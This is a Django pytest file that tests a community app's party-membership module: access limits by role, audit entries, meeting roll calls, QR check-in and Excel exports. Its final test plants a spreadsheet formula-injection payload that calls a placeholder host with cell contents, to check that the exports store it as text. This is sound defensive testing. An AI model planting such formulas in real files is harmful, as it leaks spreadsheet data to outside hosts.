from __future__ import annotations

import io
import json
from datetime import date

import pytest
from django.test import Client
from openpyxl import load_workbook

from linli.core.models import AuditEntry
from linli.party import services
from linli.party.models import Meeting, MeetingAttendance, PartyMember
from linli.registry.services import resident_update

pytestmark = pytest.mark.django_db


def client_for(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_only_party_roles_reach_the_party_pages(pw):
    for user in (pw.w.c01_worker, pw.w.grid_worker_c01_g01, pw.w.viewer):
        assert client_for(user).get("/party/members/").status_code == 403
        assert client_for(user).get("/api/v1/party-members").status_code == 403
    page = client_for(pw.w.c01_leader).get("/party/members/")
    assert page.status_code == 200
    assert "孙红" in page.content.decode()
    assert "吴和平" not in page.content.decode()  # C02's member: out of scope


def test_out_of_scope_member_is_404(pw):
    assert client_for(pw.w.c01_leader).get(f"/party/members/{pw.c02_member.pk}/").status_code == 404
    assert client_for(pw.w.c01_leader).get(f"/api/v1/party-members/{pw.c02_member.pk}").status_code == 404


def test_opening_a_member_is_audited(pw):
    client_for(pw.w.c01_leader).get(f"/party/members/{pw.member.pk}/")
    assert AuditEntry.objects.filter(
        action="reveal", object_type="party.partymember", object_id=str(pw.member.pk)
    ).exists()


def test_residents_political_status_is_shown_only_to_party_roles(pw):
    resident_update(actor=None, resident=pw.resident, political_status="中共党员")
    url = f"/registry/residents/{pw.resident.pk}/"
    assert "中共党员" in client_for(pw.w.c01_leader).get(url).content.decode()
    worker_page = client_for(pw.w.c01_worker).get(url).content.decode()
    assert "中共党员" not in worker_page
    assert "政治面貌" not in worker_page
    edit = client_for(pw.w.c01_worker).get(f"/registry/residents/{pw.resident.pk}/edit/").content.decode()
    assert "political_status" not in edit


def test_the_ledger_export_is_audited_and_names_members(pw):
    response = client_for(pw.w.c01_leader).get("/party/members/?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    names = {row[0] for row in sheet.iter_rows(min_row=4, values_only=True)}
    assert names == {"孙红", "周在职"}
    assert AuditEntry.objects.filter(action="export", object_type="party.partymember").exists()


def test_a_secretary_records_a_meeting_and_the_roll(pw):
    c = client_for(pw.w.c01_leader)
    response = c.post(
        "/party/meetings/",
        {
            "organisation": pw.branch.pk,
            "kind": "general",
            "held_on": "2026-11-18",
            "place": "会议室",
            "topic": "学习",
        },
    )
    assert response.status_code == 302
    meeting = Meeting.objects.get()
    page = c.get(response["Location"]).content.decode()
    assert "扫码签到" in page
    assert "<svg" in page
    response = c.post(
        f"/party/meetings/{meeting.pk}/",
        {"action": "roll", f"member_{pw.member.pk}": "present", f"member_{pw.reporting.pk}": "late"},
    )
    assert response.status_code == 302
    assert MeetingAttendance.objects.count() == 2
    pdf = c.get(f"/party/meetings/{meeting.pk}/sheet.pdf")
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")


def test_roll_call_for_a_future_meeting_is_refused_on_the_page(pw):
    m = services.meeting_create(
        actor=None,
        organisation=pw.branch,
        kind="general",
        held_on=date(2026, 12, 1),
        place="会议室",
        topic="学习",
    )
    c = client_for(pw.w.c01_leader)
    response = c.post(f"/party/meetings/{m.pk}/", {"action": "roll", f"member_{pw.member.pk}": "present"})
    assert response.status_code == 400
    assert "尚未召开" in response.content.decode()
    assert MeetingAttendance.objects.count() == 0


def test_qr_checkin_page_signs_the_member_in(pw):
    m = services.meeting_create(
        actor=None,
        organisation=pw.branch,
        kind="general",
        held_on=date(2026, 11, 18),
        place="会议室",
        topic="学习",
    )
    member_client = client_for(pw.w.grid_worker_c01_g01)  # the member's own login; no party capability
    assert "确认签到" in member_client.get(f"/party-checkin/{m.checkin_code}/").content.decode()
    done = member_client.post(f"/party-checkin/{m.checkin_code}/")
    assert "签到成功" in done.content.decode()
    assert MeetingAttendance.objects.get().via_qr
    stranger = client_for(pw.w.c01_worker).post(f"/party-checkin/{m.checkin_code}/")
    assert stranger.status_code == 400
    assert client_for(pw.w.c01_worker).get("/party-checkin/nonsense/").status_code == 404


def test_pipeline_step_too_early_is_refused_with_the_rule(pw):
    a = services.applicant_create(
        actor=None, organisation=pw.branch, resident=pw.newcomer, applied_on=date(2026, 1, 5)
    )
    services.applicant_advance(
        actor=None, applicant=a, to_stage="activist", date=date(2026, 2, 1), resolution="支委会"
    )
    c = client_for(pw.w.c01_leader)
    response = c.post(
        f"/party/pipeline/{a.pk}/",
        {"action": "advance", "to_stage": "candidate", "date": "2026-11-01", "resolution": "支委会"},
    )
    assert response.status_code == 400
    assert "一年以上培养教育" in response.content.decode()


def test_api_member_in_two_branches_is_refused(pw):
    c = client_for(pw.w.c01_leader)
    response = c.post(
        "/api/v1/party-members",
        json.dumps(
            {"organisation_id": pw.branch2.pk, "resident_id": pw.resident.pk, "joined_on": "1998-07-01"}
        ),
        content_type="application/json",
    )
    assert response.status_code == 400
    assert "一个支部" in response.json()["detail"]
    assert PartyMember.objects.filter(resident=pw.resident).count() == 1


def test_api_compliance_and_points(pw):
    c = client_for(pw.w.c01_leader)
    data = c.get(f"/api/v1/party-compliance?organisation_id={pw.branch.pk}&year=2026").json()
    general = next(r for r in data[0]["rows"] if r["kind"] == "general")
    assert general["overdue"] == 3
    assert [p["state"] for p in general["periods"]] == ["overdue", "overdue", "overdue", "due"]
    response = c.post(
        "/api/v1/party-meetings",
        json.dumps(
            {
                "organisation_id": pw.branch.pk,
                "kind": "general",
                "held_on": "2026-11-18",
                "place": "会议室",
                "topic": "学习",
            }
        ),
        content_type="application/json",
    )
    assert response.status_code == 201
    meeting_id = response.json()["id"]
    response = c.post(
        f"/api/v1/party-meetings/{meeting_id}/attendance",
        json.dumps({"items": [{"member_id": pw.member.pk, "status": "present"}]}),
        content_type="application/json",
    )
    assert response.status_code == 200
    data = c.get(f"/api/v1/party-compliance?organisation_id={pw.branch.pk}&year=2026").json()
    general = next(r for r in data[0]["rows"] if r["kind"] == "general")
    assert general["periods"][-1]["state"] == "held"
    ranking = c.get("/api/v1/party-points?year=2026").json()
    assert ranking[0]["name"] == "孙红"
    assert ranking[0]["points"] == 2


def test_pages_render_for_the_leader(pw):
    c = client_for(pw.w.c01_leader)
    for url in [
        "/party/",
        "/party/organisations/",
        f"/party/organisations/{pw.branch.pk}/",
        "/party/pipeline/",
        "/party/meetings/",
        "/party/compliance/",
        "/party/points/",
        f"/party/members/{pw.member.pk}/appraisal/",
        "/party/members/new/",
    ]:
        assert c.get(url).status_code == 200, url


def test_the_registrys_party_member_tag_is_shown_only_to_party_roles(pw):
    from linli.registry.models import Tag, TagGroup
    from linli.registry.services import resident_tag_add

    group, _ = TagGroup.objects.get_or_create(code="political", defaults={"name": "政治面貌"})
    tag, _ = Tag.objects.get_or_create(code="party_member", defaults={"name": "党员", "group": group})
    resident_tag_add(actor=None, resident=pw.resident, tag=tag)
    url = f"/registry/residents/{pw.resident.pk}/"
    assert "党员" in client_for(pw.w.c01_leader).get(url).content.decode()
    assert "党员" not in client_for(pw.w.c01_worker).get(url).content.decode()
    found = client_for(pw.w.c01_worker).get("/api/v1/residents?tag=party_member").json()
    assert found["count"] == 0
    assert client_for(pw.w.c01_leader).get("/api/v1/residents?tag=party_member").json()["count"] == 1


def test_exports_write_hostile_text_as_text(pw, tmp_path):
    from linli.party.export import export_appraisal, export_meetings, export_members

    hostile = '=HYPERLINK("http://x.example/?"&A1,"详情")'
    services.member_create(actor=None, organisation=pw.branch, name=hostile, joined_on=date(2001, 7, 1))
    services.meeting_create(
        actor=None,
        organisation=pw.branch,
        kind="lecture",
        held_on=date(2026, 11, 2),
        place=hostile,
        topic=hostile,
    )
    members, meetings, appraisal = tmp_path / "m.xlsx", tmp_path / "g.xlsx", tmp_path / "a.xlsx"
    export_members(
        actor=pw.w.c01_leader, target=members, members=PartyMember.objects.visible_to(pw.w.c01_leader)
    )
    export_meetings(
        actor=pw.w.c01_leader,
        target=meetings,
        meetings=Meeting.objects.visible_to(pw.w.c01_leader),
        year=2026,
    )
    export_appraisal(actor=pw.w.c01_leader, target=appraisal, organisation=pw.branch, year=2026)
    for path in (members, meetings, appraisal):
        cells = [c for row in load_workbook(path).active.iter_rows() for c in row if c.value == hostile]
        assert cells, path
        assert all(c.data_type == "s" for c in cells)
